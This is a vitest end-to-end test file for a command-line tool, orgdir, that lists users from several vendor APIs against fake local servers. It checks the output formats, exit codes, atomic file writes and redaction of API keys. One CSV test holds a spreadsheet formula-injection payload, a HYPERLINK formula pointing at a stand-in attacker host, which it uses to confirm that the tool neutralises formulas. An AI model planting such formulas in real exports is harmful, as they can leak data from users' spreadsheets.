import { spawn, spawnSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test as base, describe } from 'vitest';
import { expectDirEntries, expectNoKeys, parseCsv } from '../support/assertions.js';
import {
  FAKE_ENV,
  FAKE_KEYS,
  type FakeVendors,
  FORMULA_NAME,
  startFakeVendors,
  TELNYX_USERS,
} from '../support/fake-vendors.js';
import { BIN, baseEnv, finished, runCli } from '../support/run-cli.js';
import { runMain } from '../support/run-main.js';

/*
 * The real `orgdir` binary (`node dist/bin.js`) as a child process against the local fake vendors,
 * once per exit code (0 in table and JSON, 1, 2) plus --version and the progress line on a real
 * terminal: what bin.ts adds to main() (the real environment and streams, the exit code). The other
 * command × format × exit code runs here call main() in this process (test/support/run-main.ts), as
 * the combinations (filters, formatting details, every error line and usage error) in test/commands/
 * and test/main.test.ts do.
 *
 * Every test gets its own fake server and temp directory, so they run concurrently.
 */
const it = base.extend<{ fake: FakeVendors; dir: string }>({
  // biome-ignore lint/correctness/noEmptyPattern: vitest fixtures must destructure their context
  fake: async ({}, use) => {
    const fake = await startFakeVendors();
    await use(fake);
    await fake.close();
  },
  // biome-ignore lint/correctness/noEmptyPattern: vitest fixtures must destructure their context
  dir: async ({}, use) => {
    const dir = await mkdtemp(join(tmpdir(), 'orgdir-e2e-'));
    await use(dir);
    await rm(dir, { recursive: true, force: true });
  },
});

/** Runs the binary with a command, the fake's base URLs, no retries and `args`. */
function binary(fake: FakeVendors, command: string[], args: string[] = [], env: Record<string, string> = FAKE_ENV) {
  return runCli([...command, ...fake.flags, '--max-retries', '0', ...args], { env });
}

/** The same run as {@link binary}, through main() in this process. */
function orgdir(fake: FakeVendors, command: string[], args: string[] = [], env: Record<string, string> = FAKE_ENV) {
  return runMain([...command, ...fake.flags, '--max-retries', '0', ...args], { env });
}

/** The one notice for the Flashback record that has no email. */
const UNMAPPED_NOTICE = 'orgdir: flashback: could not map record 4 (id "f-4"): missing email\n';

const ALL_EMAILS = [
  'alice@example.com',
  'bob@example.com',
  'eve@example.com',
  'gone@example.com',
  'jane@example.com',
  'john.doe@example.com',
  'owner@example.com',
  'plus@example.com',
];

const emailsIn = (users: Array<{ email: string }>) => users.map((u) => u.email).sort();

describe.concurrent('orgdir directory', () => {
  it('binary, table: every vendor, a summary line each, exit 0', async ({ fake, expect }) => {
    const result = await binary(fake, ['directory']);
    expect(result.code).toBe(0);
    // Exactly the unmapped notice: stderr is not a TTY, so no progress line either.
    expect(result.stderr).toBe(UNMAPPED_NOTICE);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^VENDOR +EMAIL +NAME +STATUS +ROLE +GROUPS$/);
    expect(
      lines
        .slice(1, 9)
        .map((l) => /\S+@example\.com/.exec(l)?.[0])
        .sort(),
    ).toEqual(ALL_EMAILS);
    expect(lines.slice(-3)).toEqual([
      'telnyx: 3 users',
      'flashback: 3 users, 1 not mapped (see stderr)',
      'openai: 2 users',
    ]);
    expectNoKeys(result);
  });

  it('binary, json: every vendor, exit 0, each key sent to its own vendor only', async ({ fake, expect }) => {
    const result = await binary(fake, ['directory'], ['--format', 'json']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(UNMAPPED_NOTICE);
    const { users, vendors } = JSON.parse(result.stdout) as {
      users: Array<{ email: string }>;
      vendors: Array<{ status: string }>;
    };
    expect(emailsIn(users)).toEqual(ALL_EMAILS);
    expect(vendors.map((v) => v.status)).toEqual(['complete', 'complete', 'complete']);
    expect(new Set(fake.requests.map((r) => r.vendor)).size).toBe(3);
    for (const r of fake.requests) expect(r.authorization).toBe(`Bearer ${FAKE_KEYS[r.vendor]}`);
    expectNoKeys(result);
  });

  it('ndjson: every vendor, exit 0', async ({ fake, expect }) => {
    const result = await orgdir(fake, ['directory'], ['--format', 'ndjson']);
    expect(result.code).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(emailsIn(lines.map((l) => JSON.parse(l) as { email: string }))).toEqual(ALL_EMAILS);
    expectNoKeys(result);
  });

  it('csv: RFC 4180, every vendor, formulas neutralised, exit 0; --output writes the same bytes atomically', async ({
    fake,
    dir,
    expect,
  }) => {
    const file = join(dir, 'dir.csv');
    const [printed, written] = await Promise.all([
      orgdir(fake, ['directory'], ['--format', 'csv']),
      orgdir(fake, ['directory'], ['--format', 'csv', '--output', file]),
    ]);
    expect(printed.code).toBe(0);
    expect(printed.stdout.startsWith('vendor,id,email,name,status,role,groups,createdAt,lastSignInAt\r\n')).toBe(true);
    const rows = parseCsv(printed.stdout);
    expect(rows.every((r) => r.length === 9)).toBe(true);
    expect(
      rows
        .slice(1)
        .map((r) => r[2])
        .sort(),
    ).toEqual(ALL_EMAILS);
    expect(rows.find((r) => r[1] === 'f-1')?.[3]).toBe(`'${FORMULA_NAME}`);
    expect(rows.find((r) => r[1] === 'user-2')?.[3]).toBe(`'+1 "quoted"`);
    expect(printed.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click me"")"`);
    expectNoKeys(printed);

    expect(written.code).toBe(0);
    expect(written.stdout).toBe('');
    expect(written.stderr).toBe(`${UNMAPPED_NOTICE}orgdir: wrote 8 users to ${file}\n`);
    expect(await readFile(file, 'utf8')).toBe(printed.stdout);
    await expectDirEntries(dir, ['dir.csv']);
  });

  it('binary, a failing vendor: the others are printed, one line on stderr, the key echoed back is redacted, exit 1', async ({
    fake,
    expect,
  }) => {
    fake.behave('openai', { status: 401, echoAuthorization: true });
    const result = await binary(fake, ['directory'], ['--format', 'json']);
    expect(result.code).toBe(1);
    const { users, vendors } = JSON.parse(result.stdout) as {
      users: Array<{ vendor: string }>;
      vendors: Array<{ vendor: string; status: string; error?: string }>;
    };
    expect(new Set(users.map((u) => u.vendor))).toEqual(new Set(['telnyx', 'flashback']));
    expect(vendors[2]).toMatchObject({
      vendor: 'openai',
      status: 'failed',
      error: expect.stringMatching(/^openai: 401 /),
    });
    const lines = result.stderr.replace(UNMAPPED_NOTICE, '').trimEnd().split('\n');
    expect(lines).toEqual([expect.stringMatching(/^orgdir: openai: 401 Bad header: Bearer \[redacted\]/)]);
    expectNoKeys(result);
  });

  it('--output with a failing vendor: exit 1, the existing file untouched, no temp file', async ({
    fake,
    dir,
    expect,
  }) => {
    const file = join(dir, 'dir.csv');
    await writeFile(file, 'the previous export\r\n');
    fake.behave('flashback', { status: 500 });
    const result = await orgdir(fake, ['directory'], ['--format', 'csv', '--output', file]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^orgdir: flashback: 500 /m);
    expect(result.stderr).toContain(`not writing ${file}`);
    expect(await readFile(file, 'utf8')).toBe('the previous export\r\n');
    await expectDirEntries(dir, ['dir.csv']);
  });

  it('binary, a usage error: exit 2, nothing requested', async ({ fake, expect }) => {
    const result = await binary(fake, ['directory'], ['--vendors', 'telnyx,slack']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/unknown vendor slack/);
    expect(result.stdout).toBe('');
    expect(fake.requests).toHaveLength(0);
  });
});

describe.concurrent('orgdir users', () => {
  it('telnyx --format json: filters sent to the API, exit 0', async ({ fake, expect }) => {
    const result = await orgdir(fake, ['users', 'telnyx'], ['--status', 'disabled', '--format', 'json']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    expect((JSON.parse(result.stdout) as Array<{ id: string }>).map((u) => u.id)).toEqual(['t-3']);
    expect(fake.requests[0]?.query.get('filter[user_status]')).toBe('disabled');
    expectNoKeys(result);
  });

  it('flashback --format table: exit 0', async ({ fake, expect }) => {
    const result = await orgdir(fake, ['users', 'flashback']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(UNMAPPED_NOTICE);
    expect(result.stdout).toMatch(/^VENDOR +EMAIL +NAME +STATUS +ROLE +GROUPS\nflashback +eve@example\.com/);
    expect(result.stdout).toMatch(/\nflashback: 3 users, 1 not mapped \(see stderr\)\n$/);
  });

  it('openai --group --format ndjson: the members, exit 0', async ({ fake, expect }) => {
    const result = await orgdir(fake, ['users', 'openai'], ['--group', 'group-2', '--format', 'ndjson']);
    expect(result.code).toBe(0);
    const users = result.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { id: string; groups: string[] });
    expect(users).toEqual([
      expect.objectContaining({ id: 'user-1', groups: ['Sales'] }),
      expect.objectContaining({ id: 'user-2', groups: ['Sales'] }),
    ]);
  });

  it('flashback --format csv: formulas neutralised, exit 0', async ({ fake, expect }) => {
    const result = await orgdir(fake, ['users', 'flashback'], ['--format', 'csv']);
    expect(result.code).toBe(0);
    expect(parseCsv(result.stdout).find((r) => r[1] === 'f-1')?.[3]).toBe(`'${FORMULA_NAME}`);
  });

  it('an API error echoing the key back: one redacted line, exit 1', async ({ fake, expect }) => {
    fake.behave('telnyx', { status: 400, echoAuthorization: true });
    const result = await orgdir(fake, ['users', 'telnyx']);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^orgdir: telnyx: 400 .*Bad header: Bearer \[redacted\].*\n$/);
    expectNoKeys(result);
  });

  it('a missing key: exit 2 naming the variable, nothing requested', async ({ fake, expect }) => {
    const result = await orgdir(fake, ['users', 'openai'], [], { TELNYX_API_KEY: FAKE_KEYS.telnyx });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('OPENAI_ADMIN_KEY is not set');
    expect(fake.requests).toHaveLength(0);
  });
});

describe.concurrent('orgdir report telnyx', () => {
  it('json (the default): the rows as the client returns them, exit 0', async ({ fake, expect }) => {
    const result = await orgdir(fake, ['report', 'telnyx']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    expect(JSON.parse(result.stdout)).toEqual(TELNYX_USERS);
    expectNoKeys(result);
  });

  it('csv to --output: written atomically, exit 0', async ({ fake, dir, expect }) => {
    const file = join(dir, 'report.csv');
    const result = await orgdir(fake, ['report', 'telnyx'], ['--format', 'csv', '--output', file]);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe('');
    expect(result.stderr).toBe(`orgdir: wrote 3 report rows to ${file}\n`);
    const rows = parseCsv(await readFile(file, 'utf8'));
    expect(rows[0]).toEqual(['id', 'email', 'record_type', 'user_status', 'created_at', 'last_sign_in_at', 'groups']);
    expect(rows.slice(1).map((r) => r[6])).toEqual(['Engineering; Sales', '', 'Engineering']);
    await expectDirEntries(dir, ['report.csv']);
  });

  it('403: one line, no file written, exit 1', async ({ fake, dir, expect }) => {
    fake.behave('telnyx', { status: 403 });
    const result = await orgdir(fake, ['report', 'telnyx'], ['--output', join(dir, 'report.json')]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^orgdir: telnyx: 403 .+\n$/);
    expectNoKeys(result);
    await expectDirEntries(dir, []);
  });

  it('another vendor: exit 2', async ({ fake, expect }) => {
    const result = await runMain(['report', 'openai', '--base-url-telnyx', fake.baseUrls.telnyx], { env: FAKE_ENV });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/'openai' is invalid/);
  });
});

describe.concurrent('orgdir --help and --version', () => {
  it('--help: usage on stdout, exit 0', async ({ expect }) => {
    const result = await runMain(['--help']);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^Usage: orgdir/);
    expect(result.stderr).toBe('');
  });

  it('binary, --version: the package version, exit 0', async ({ expect }) => {
    const pkg = JSON.parse(await readFile(new URL('../../package.json', import.meta.url), 'utf8')) as {
      version: string;
    };
    const result = await runCli(['--version']);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`${pkg.version}\n`);
  });
});

const hasScript = spawnSync('script', ['--version']).status === 0;

describe('orgdir directory on a terminal (binary)', () => {
  it.skipIf(!hasScript)('draws a progress line in place, then erases it', async ({ fake, expect }) => {
    // `script` gives orgdir a pseudo-terminal for stdout and stderr.
    const quote = (s: string) => `'${s.replaceAll("'", "'\\''")}'`;
    const command = [process.execPath, BIN, 'directory', ...fake.flags].map(quote).join(' ');
    const child = spawn('script', ['-qec', command, '/dev/null'], {
      env: baseEnv(FAKE_ENV),
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const result = await finished(child);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('\r\u001b[2Kfetching users: ');
    expect(result.stdout).toContain('openai: 2 users');
  });
});
